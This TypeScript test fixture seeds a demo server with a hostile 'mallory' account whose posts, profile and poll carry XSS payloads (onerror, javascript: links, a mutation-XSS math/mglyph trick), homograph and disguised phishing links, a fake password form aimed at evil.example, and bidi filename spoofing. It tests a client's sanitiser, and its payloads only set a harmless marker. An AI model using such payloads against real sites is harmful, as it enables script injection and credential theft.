// Adds a malicious account for tests, which mira follows: markup, bidi overrides, disguised links, endless names.
import type { Store } from '@kittiwake/demo-server/store/store';

const attacks = [
  '<p onmouseover="window.__hit=1">hover <img src=x onerror="window.__hit=1"> <svg onload="window.__hit=1"></svg><script>window.__hit=1</script></p>',
  '<p><a href="javascript:window.__hit=1">click</a> <a href="data:text/html,<script>window.__hit=1</script>">data</a> <a href="https://evil.example/login" class="mention">@mira</a></p>',
  '<p>Your bank: <a href="https://evil.example/">https://bank.example/login</a> and <a href="https://xn--bnk-5cd.example/">bаnk.example</a></p>',
  '<p>\u202Etxt.exe.gpj\u202C and \u2066hidden\u2069 \u200B\u200B\u200B</p>',
  '<p class="dialog toolbar fixed" style="position:fixed;inset:0;z-index:99999;background:red">over everything</p>',
  `<p>${'Z̷̢̛'.repeat(200)}</p>`,
  '<iframe src="https://evil.example"></iframe><form action="https://evil.example"><input name="password"><button>Sign in</button></form><p>form</p>',
  '<p><math><mtext></mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.__hit=1&gt;"></mglyph></math> mutation</p>',
  `<p>${'<span>'.repeat(400)}deep${'</span>'.repeat(400)}</p>`,
];

export function addMaliciousAccount(store: Store): void {
  const victim = store.accounts.local().find(({ username }) => username === 'mira');
  if (!victim) throw new Error('The server has no account mira');
  const mallory = store.accounts.create({
    username: 'mallory',
    domain: 'evil.example',
    displayName: `<b>Mallory</b><script>window.__hit=1</script>\u202Egnp.exe\u202C ${'long '.repeat(60)}`,
    note: '<img src=x onerror=window.__hit=1> I am what your sanitiser is for.',
    fields: [{ name: '<i>x</i>', value: 'https://evil.example/"onmouseover="window.__hit=1' }],
    avatar: '/drawn/avatars/mallory@evil.example.svg',
    header: '/drawn/headers/1.svg',
  });
  store.relations.follow(victim, mallory);
  for (const content of attacks) {
    const status = store.statuses.create(mallory, { text: 'attack', visibility: 'public' });
    store.db.run('UPDATE statuses SET content = :content WHERE id = :id', { content, id: status.id });
  }
  store.statuses.create(mallory, {
    text: `@${victim.username} <script>window.__hit=1</script>`,
    spoilerText: '<img src=x onerror=window.__hit=1>',
    visibility: 'public',
  });
  store.statuses.create(mallory, {
    text: 'which?',
    visibility: 'public',
    poll: { options: ['<b>one</b>', '<img src=x onerror=window.__hit=1>'], multiple: false, expiresAt: store.now() + 3_600_000 },
  });
}
